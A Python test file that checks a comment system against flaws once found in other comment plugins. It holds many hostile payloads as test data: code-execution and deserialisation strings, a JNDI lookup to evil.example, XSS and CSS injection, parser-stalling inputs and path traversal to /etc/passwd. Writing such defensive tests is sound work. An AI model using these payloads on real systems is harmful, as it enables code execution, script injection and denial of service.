"""What went wrong in the Disqus plugin, Artalk, Waline, Valine, Coral, Commento, Cusdis and Twikoo."""

import hashlib
import json

import pytest

from tests.attacks import wire
from tests.attacks.conftest import HARBOUR, Listener, Place
from tests.attacks.looking import bodies, entries, sound
from tests.attacks.wire import FORM
from tests.conftest import ORIGIN
from tests.transfer import wxr

CODE = (
    "<?php system('touch /tmp/x'); ?>",
    "__import__('os').system('touch /tmp/x')",
    "{{ config.SECRET_KEY }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{0.__class__.__init__.__globals__} %(secret)s %s %n",
    "!!python/object/apply:os.system ['x']",
    'O:8:"stdClass":1:{s:4:"evil";s:1:"x";}',
    "cos\nsystem\n(S'x'\ntR.",
    "${jndi:ldap://evil.example/a} $(touch x) `touch x`",
)


# The plugin evaluated what its service sent (2014).
@pytest.mark.parametrize("code", CODE)
def test_words_that_are_code_stay_words_from_the_form_and_from_a_file(place: Place, code: str) -> None:
    page, number = place.page(), place.held(code, page=place.page(), author=code, title=code, format="plain")
    id_ = next(place.numbers) + 5000
    place.bring(wxr.export(wxr.item(wxr.comment(id_, content=f"Words {code}", author=code), link=page, title=code)))
    row = place.row(number)
    assert (row["text"], row["author"]) == (code, " ".join(code.split()))
    assert place.by("Ines").get(f"/queue/{row['revision']}").status == 200
    thread = place.read("thread.json", page).json
    assert thread["comments"][0]["author"] == " ".join(code.split())
    assert len(bodies(thread)) == 1
    for answer in (place.get(place.receipt(number)), place.read("thread", page)):
        assert place.app.config["SECRET_KEY"] not in answer.text
        sound(answer.text)


# An answer was written with a victim's address, and changed the victim's profile (Artalk #921).
def test_a_reply_under_a_victims_address_changes_no_earlier_row(place: Place) -> None:
    page = place.page()
    mine = {"author": "Victim", "email": "victim@home.example", "url": "https://victim.example/"}
    place.public("Mine.", page=page, **mine)
    place.held("Mine, and held.", page=page, **mine)
    tables = ("comment", "revision", "account", "thread", "site")
    before = {name: set(map(repr, place.rows()[name])) for name in tables}
    forged = {"author": "Forger", "email": "Victim@home.example", "url": "https://evil.example/"}
    place.held("Not hers.", page=page, **forged)
    place.held("Not his.", page=page, author="Ines", email="ines@staff.example", url="https://evil.example/")
    after = {name: set(map(repr, place.rows()[name])) for name in tables}
    assert {name: len(before[name] - after[name]) for name in tables} == dict.fromkeys(tables, 0)
    assert [item["url"] for item in place.read("thread.json", page).json["comments"]] == ["https://victim.example/"]


SLOW = {
    "brackets": "[" * 20_000,
    "links": "[a](" * 8_000,
    "emphasis": "*a_" * 20_000,
    "quotes": ">" * 30_000 + "a",
    "ticks": "`a" * 20_000,
    "tags": "<a " * 20_000,
    "comments": "<!--" * 15_000,
    "entities": "&#x" * 20_000,
    "references": "&" * 60_000,
    "lists": "\n".join(" " * (at % 200) + "- a" for at in range(1500)),
    "numbers": "1) " * 20_000,
    "blanks": " " * 60_000 + "a",
    "lines": "\n" * 60_000 + "a",
    "addresses": "http://" * 9_000,
    "dots": "http://a" + ".a" * 25_000,
    "signs": "a@" * 30_000,
    "definitions": "[a]: <b> 'c\n" * 5_000,
    "closing": "</a>" * 15_000,
    "tables": "|a" * 30_000 + "\n" + "|-" * 30_000,
    "marks": "a" + "\u0301" * 30_000,
    "bidi": "\u202e\u2066" * 10_000 + "a",
}


# Sanitisers and parsers that ran for minutes: Artalk's, CVE-2020-6817, CVE-2022-34749, CVE-2020-28493, CVE-2024-3651.
@pytest.mark.parametrize("kind", SLOW)
def test_a_text_made_to_keep_a_parser_busy_is_answered(place: Place, kind: str) -> None:
    place.widen(65_525)
    for form in ("markdown", "plain"):
        page, text = place.page(), SLOW[kind]
        answer = place.reply(text, page=page, format=form)
        assert answer.status in {201, 422}
        fields = {"comment": text, "format": form, "page": page}
        assert place.send_form(fields, path="/sites/courier/preview").status in {200, 422}
        if answer.status == 201:
            revision = place.row(answer.json["comment"])["revision"]
            assert place.by("Ana").get(f"/queue/{revision}").status == 200


# What an owner writes is shown to the public too: Artalk, and Coral's message box.
def test_what_an_owner_writes_for_the_public_is_as_tame_as_a_reply(place: Place) -> None:
    hostile = (
        "Be kind.<script>alert(1)</script><img src=x onerror=alert(1)> [x](javascript:alert(1)) <b onclick=x>b</b>"
    )
    ines, page = place.by("Ines"), place.page()
    form = place.fields_of("Ines", "/settings/courier/form")
    assert ines.post("/settings/courier/form", form | {"guidelines": hostile}).status == 303
    form = place.fields_of("Ines", "/settings/courier/site")
    assert ines.post("/settings/courier/site", form | {"name": "</title><script>alert(1)</script>'\"x"}).status == 303
    place.soon(lambda: "Be kind." in place.read("thread.json", page).text, "the guidelines are public")
    thread = place.read("thread.json", page).json
    bodies({"comments": [{"body": thread["settings"]["guidelines"]}]})
    for answer in (
        *(place.read("thread", page), place.read("thread.html", page), place.get("/sites/courier/comments.atom")),
        *(ines.get("/settings/courier/site"), ines.get("/settings/courier/snippet"), ines.get("/log/")),
    ):
        assert answer.status == 200
        if "atom" in answer.headers["Content-Type"]:
            entries(answer.body)
        else:
            sound(answer.text)


@pytest.mark.parametrize(
    ("setting", "value"),
    [
        ("accent", "red;}body{background:url(//evil.example)"),
        ("accent", "#12345</style>"),
        ("accent", "expression(alert(1))"),
        ("radius", "1px;position:fixed"),
        ("origins", "javascript:alert(1)"),
        ("origins", "https://evil.example; frame-ancestors *"),
        ("origins", "https://courier.example https://evil.example"),
        ("origins", "*"),
        ("locale", "../../etc/passwd"),
        ("page_size", "1e9"),
    ],
)
def test_no_setting_is_more_than_what_it_is(place: Place, setting: str, value: str) -> None:
    before = place.rows()["site"]
    form = place.fields_of("Ines", "/settings/courier/site")
    answer = place.by("Ines").post("/settings/courier/site", form | {setting: value})
    assert answer.status == 422
    sound(answer.text)
    assert place.rows()["site"] == before


# A file in the instance folder may be code, the operator's own; nothing over HTTP writes or names one.
def test_no_setting_names_a_file_or_a_program(place: Place) -> None:
    fields = {"mailer": "/bin/sh", "command": "/bin/sh -c id", "file": "../config.py", "path": "/etc/passwd"}
    before = sorted(path.name for path in place.server.instance.iterdir())
    ines = place.by("Ines")
    for concern in ("site", "form", "moderation", "privacy"):
        form = place.fields_of("Ines", f"/settings/courier/{concern}")
        assert ines.post(f"/settings/courier/{concern}", form | fields).status == 303
    assert ines.post("/settings/courier/transfer/import", {"file": "../config.py"}).status == 409
    assert sorted(path.name for path in place.server.instance.iterdir()) == before


# Gravatar's hash of an address is the address, to whoever has a list (Waline #55).
def test_no_hash_of_an_address_is_public(place: Place) -> None:
    page, email = place.page(), "hashme@home.example"
    place.public(page=page, email=email)
    spellings = (email, email.upper())
    told = [hashlib.new(name, one.encode()).hexdigest() for name in ("md5", "sha1", "sha256") for one in spellings]
    for name in ("thread", "thread.json", "thread.html", "thread.atom", "comments.atom"):
        answer = place.read(name, page, headers=[("Accept-Encoding", "identity")]).text.lower()
        assert [one for one in (*told, "gravatar", "hashme") if one in answer] == []


NICKS = ('"</a><iframe srcdoc="<script>alert(1)</script>">', "<svg/onload=alert(1)>", "'-alert(1)-'", "</bdi></h3><b>")


@pytest.mark.parametrize("nick", NICKS)
def test_a_nickname_is_words(place: Place, nick: str) -> None:
    page = place.page()
    number = place.public(page=page, author=nick, url="https://nick.example/")
    for answer in (place.read("thread", page), place.read("thread.html", page), place.get(place.receipt(number))):
        sound(answer.text)
    assert place.read("thread.json", page).json["comments"][0]["author"] == nick


ASSIGNED = {
    **{
        "status": "approved",
        "id": 1,
        "created": "2001-01-01T00:00:00Z",
        "received_at": "2001-01-01",
        "ip": "192.0.2.1",
    },
    **{"site": "harbour", "site_id": 2, "approved": True, "is_public": 1, "network": "x", "depth": 99, "thread_id": 1},
    **{"html": "<script>alert(1)</script>", "rendered": "<b>", "findings": [], "via": "queue", "turn": 9, "pinned": 1},
    **{
        "ACL": {"*": {"write": True}},
        "ua": "x",
        "account_id": 1,
        "author_key": "victim",
        "anchor": "top",
        "role": "owner",
    },
}


# CVE-2021-34801 and its kin: the client set time, address and status.
def test_nothing_but_the_forms_fields_is_taken(place: Place) -> None:
    page = place.page()
    first = place.held(page=page)
    sent = {"comment": "Only words.", "author": "Margit", "email": "margit@home.example", "page": page} | ASSIGNED
    headers = [("Content-Type", "application/json"), ("Accept", "application/json")]
    number = place.ask("POST", "/sites/courier/replies", headers, json.dumps(sent).encode()).json["comment"]
    told = {name: json.dumps(value) if not isinstance(value, str) else value for name, value in ASSIGNED.items()}
    told |= {"comment": "Only words, by form.", "page": page, "author": "Jo", "email": "jo@home.example"}
    place.send_form(told | {"token": place.read("form", page).json["token"]})
    rows = [row for row in place.stored(page) if row["id"] != first]
    assert len(rows) == 2
    one = place.row(first)
    for row in rows:
        assert row["id"] > first
        assert (row["site"], row["status"], row["turn"], row["parent"]) == (one["site"], "pending", 0, None)
    raw = next(row for row in place.rows()["comment"] if row[0] == number)
    assert "2001" not in repr(raw)
    assert "192.0.2.1" not in repr(raw)
    assert place.read("thread.json", page).json["count"] == 0
    edit = wire.form(told | {"comment": "Edited words."})
    assert place.ask("POST", f"{place.receipt(number)}/edit", [("Content-Type", FORM)], edit).status == 303
    assert (place.row(number)["author"], place.row(number)["status"]) == ("Margit", "pending")


ELSEWHERE = (
    *(
        "https://evil.example/",
        "//evil.example/",
        "https://courier.example.evil.example/",
        "https://courier.example@evil/",
    ),
    *("https://evil.example/https://courier.example/", "https://courier.example\\@evil.example/", f"{HARBOUR}/news"),
    *("https://sub.courier.example/", "https://courier.example:8443/", "ftp://courier.example/", "javascript:alert(1)"),
    *(
        "https://courier.example%2eevil.example/",
        "https://courier.example\u3002evil/",
        "https://\u0441ourier.example/",
        "/news",
    ),
    *("https://courier.example\t.evil.example/", "https://evil.example#https://courier.example/", "data:text/html,x"),
)


# Coral, 2025: a thread was made for an address outside the site.
@pytest.mark.parametrize("page", ELSEWHERE)
def test_no_thread_is_made_for_a_page_elsewhere(place: Place, page: str) -> None:
    before = place.rows()["thread"]
    assert place.reply(page=page).status in {403, 422}
    assert place.send_form({"comment": "Hi", "author": "Jo", "email": "j@home.example", "page": page}).status in {
        403,
        422,
    }
    assert place.by("Ines").post("/settings/courier/pages", {"page": page, "action": "close"}).status == 422
    for name in ("thread", "thread.json", "thread.html", "thread.atom"):
        answer = place.get(f"/sites/courier/{name}?page={wire.form({'': page}).decode()[1:]}")
        assert answer.status in {403, 422}
    assert place.rows()["thread"] == before


# Commento: the scheme was looked at before the text was changed once more.
def test_what_is_published_is_what_was_cleaned(place: Place) -> None:
    page, hostile = (
        place.page(),
        "[a](java\tscript:alert(1)) javajavascript:script:x <scr<script>ipt>alert(1)</scr</script>ipt>",
    )
    number = place.public(hostile, page=page, format="markdown")
    [entry] = entries(place.read("thread.atom", page).body)
    assert entry["html"] == place.html(number)
    assert place.row(number)["text"] == hostile


# A link's key in an address is told on by the browser, unless it is told not to (Cusdis).
def test_no_address_with_a_key_is_told_on(place: Place) -> None:
    number = place.held("See [this](https://evil.example/).", page=place.page())
    for path in (place.receipt(number), place.receipt(number) + "/edit", place.invitation(), place.reset("Rita")):
        answer = place.get(path)
        assert (answer.status, answer.headers["Cache-Control"]) == (200, "no-store")
        assert answer.headers["Referrer-Policy"] in {"same-origin", "no-referrer"}


# Twikoo: a text laid itself over the page.
def test_a_text_brings_no_style(place: Place) -> None:
    page = place.page()
    styled = "<p style='position:fixed;inset:0' class=overlay id=reply><b style=x class=y>Over</b></p>"
    id_ = next(place.numbers) + 5000
    place.bring(wxr.export(wxr.item(wxr.comment(id_, content=styled), link=page, id_=id_)))
    place.public(styled, page=page)
    found = entries(place.read("thread.atom", page).body)
    assert len(found) == 2
    assert [one["html"] for one in found if "<p style" in one["html"] or "<b style" in one["html"]] == []
    assert any("<b>Over</b>" in one["html"] for one in found)


# CVE-2014-5345 to CVE-2014-5347: settings, imports and the like need a form of ours. See also the WordPress family.
@pytest.mark.parametrize("path", ["transfer", "transfer/import", "transfer/export", "pages", "reasons", "site"])
def test_no_get_changes_settings_or_moves_comments(place: Place, listener: Listener, path: str) -> None:
    before = place.rows()
    query = f"?name=Taken&action=close&page={ORIGIN}/x&file={'a' * 64}&role=owner&csrf_token={place.by('Ines').token()}"
    for method in ("GET", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE"):
        answer = place.by("Ines").ask(method, f"/settings/courier/{path}{query}")
        assert answer.status in {200, 405, 403, 400}
    assert place.rows() == before
    assert listener.calls == []
